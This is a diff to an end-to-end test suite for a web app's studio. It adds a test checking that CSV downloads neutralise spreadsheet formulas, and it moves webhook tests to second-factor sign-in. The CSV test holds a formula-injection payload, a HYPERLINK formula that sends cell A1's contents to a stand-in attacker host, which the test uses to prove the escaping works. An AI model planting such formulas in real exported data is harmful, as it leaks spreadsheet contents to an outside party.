@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
 from dataclasses import dataclass
 from datetime import datetime, timedelta
@@ -15,7 +17,7 @@ from standardwebhooks.webhooks import Webhook
 
 from orgbase.platform.app import OrgbaseApp
 from tests.e2e.conftest import NARROW, WIDE, Studio
-from tests.support.http import add_member, bearer, create_org, new_user, sign_in
+from tests.support.http import add_member, admin_at_aal2, bearer, create_org, new_user, sign_in
 from tests.support.receivers import Answer, Received, Receiver
 
 pytestmark = pytest.mark.slow
@@ -145,6 +147,27 @@ async def test_sign_in_switch_org_browse_and_edit_rows(studio: Studio, client: C
         f"/v1/db/tasks?id=eq.{made['id']}", headers=bearer(world.alpha_tokens["access_token"])
     )
     assert gone.json() == []
+
+
+async def test_csv_download_escapes_formulas(studio: Studio, client: Client) -> None:
+    """Text an org's user wrote that a spreadsheet would run (a formula) comes out of the
+    studio's download with a leading quote; the rest is as stored."""
+    world = await make_world(client)
+    formula = '=HYPERLINK("http://attacker.test/?"&A1,"open")'
+    await insert_tasks(client, world.alpha_tokens["access_token"], [formula])
+    page = studio.page
+    await studio.sign_in(world.email)
+    await open_in_org(studio, world.alpha, "database")
+    await page.click('button[data-table="tasks"]')
+    await studio.settled()
+    async with page.expect_download() as started:
+        await page.click("#download-csv")
+    download = await started.value
+    assert download.suggested_filename == "tasks.csv"
+    path = await download.path()
+    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+    titles = sorted(row["title"] for row in rows)
+    assert titles == sorted(["'" + formula] + [f"alpha task {n}" for n in range(3)])
 
 
 async def test_tokens_stay_out_of_script_reach_and_sign_out_revokes(
@@ -343,11 +366,18 @@ async def sideways_overflow(studio: Studio) -> int:
     return overflow
 
 
+async def sign_in_at_aal2(studio: Studio, client: Client, world: World) -> None:
+    """The world's user with a second factor, signed in with it (endpoints are security
+    settings: an admin in person at aal2)."""
+    strong = await admin_at_aal2(client, world.alpha_tokens)
+    await studio.sign_in_at_aal2(world.email, strong["recovery_codes"][0])
+
+
 async def test_webhook_endpoint_from_secret_to_delivery_log(studio: Studio, client: Client) -> None:
     world = await make_world(client)
     page = studio.page
     await page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=studio.base)
-    await studio.sign_in(world.email)
+    await sign_in_at_aal2(studio, client, world)
     await open_in_org(studio, world.alpha, "webhooks")
     await studio.settled()
     await expect(page.locator("#webhook-endpoints .empty")).to_contain_text("No endpoint yet")
@@ -475,7 +505,7 @@ async def test_webhook_strings_from_outside_render_as_text(studio: Studio, clien
         dialogs.append(dialog.message)
 
     page.on("dialog", remember)
-    await studio.sign_in(world.email)
+    await sign_in_at_aal2(studio, client, world)
     await open_in_org(studio, world.alpha, "webhooks")
     await studio.settled()
     # The receiver answers markup too: its answer is shown in the delivery log.
